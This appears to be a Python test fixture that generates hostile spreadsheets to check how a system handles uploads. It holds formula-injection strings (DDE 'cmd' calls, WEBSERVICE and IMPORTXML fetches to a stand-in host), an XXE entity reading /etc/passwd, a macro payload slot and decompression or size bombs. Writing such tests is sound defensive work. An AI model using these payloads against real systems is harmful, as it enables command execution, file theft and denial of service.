"""Spreadsheets that mean harm: what they would run, fetch, read or swell to."""

from collections.abc import Callable
from random import Random

from tests.integration.access.hostile_builders import FETCHED, PAYLOAD, an_archive, docx_bomb
from tests.integration.notifications.spreadsheet_files import delimited, ods, xlsx
from tests.unit.notifications.some_documents import altered

RUNS = (
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    f'=HYPERLINK("{FETCHED}","here")',
    f'=WEBSERVICE("{FETCHED}")',
    f"=IMPORTXML(\"{FETCHED}\";\"//a\")",
    "+1+cmd|'x'!A1",
    "-2+3",
    "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1",
    "'=1",
)  # fmt: skip
ENTITY = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % f SYSTEM "{FETCHED}">]>'.encode()


def two_columns(rng: Random) -> list[list[str]]:
    return [[rng.choice(RUNS)] * 2 for _ in range(9)]


def workbook(rng: Random) -> bytes:
    return xlsx(
        [["Given names", "Family name", rng.choice(RUNS)], *([rng.choice(RUNS)] * 3 for _ in range(9))]
    )


def with_part(name: str, data: bytes) -> Callable[[Random], bytes]:
    return lambda rng: altered(workbook(rng), {name: data + rng.randbytes(4).hex().encode()}, {})


def with_entity(rng: Random) -> bytes:
    return altered(workbook(rng), {}, {"workbook.xml": (b"<workbook", ENTITY + b"<workbook")})


def swelling(rng: Random) -> bytes:
    return altered(
        workbook(rng), {"xl/worksheets/sheet9.xml": b" " * rng.randrange(100, 250) * 1_000_000}, {}
    )


def far_away(rng: Random) -> bytes:
    """One cell at the end of the largest sheet there can be."""
    cell = f'<c r="XFD{rng.randrange(900_000, 1_048_576)}"><v>1</v></c></row>'.encode()
    return altered(workbook(rng), {}, {"sheet1.xml": (b"</row>", cell)})


def wide_ods(rng: Random) -> bytes:
    """A cell that is repeated a thousand million times."""
    content = ods([[rng.choice(RUNS)] * 3])
    often = f'<table:table-cell table:number-columns-repeated="{rng.randrange(10**8, 10**9)}"'.encode()
    return altered(content, {}, {"content.xml": (b"<table:table-cell", often)})


SPREADSHEETS: dict[str, tuple[str, Callable[[Random], bytes]]] = {
    "a workbook of formulas": (".xlsx", workbook),
    "a list of formulas": (".csv", lambda r: delimited([["Given", "Family"], *two_columns(r)])),
    "a sheet of formulas": (".ods", lambda r: ods([["Given", "Family"], *two_columns(r)])),
    "a workbook with macros": (".xlsx", with_part("xl/vbaProject.bin", PAYLOAD)),
    "a workbook that is linked": (".xlsx", with_part("xl/externalLinks/externalLink1.xml", b"<x/><!--")),
    "a workbook with entities": (".xlsx", with_entity),
    "a workbook that swells": (".xlsx", swelling),
    "a workbook with a cell far away": (".xlsx", far_away),
    "a sheet with very many cells": (".ods", wide_ods),
    "a letter for a workbook": (".xlsx", docx_bomb),
    "an archive for a workbook": (".xlsx", an_archive),
    "a list of noise": (".csv", lambda r: r.randbytes(5_000) + b"\0" * r.randrange(99)),
    "a list of one endless line": (".csv", lambda r: b'"' + b"x," * r.randrange(10**5, 10**6)),
}
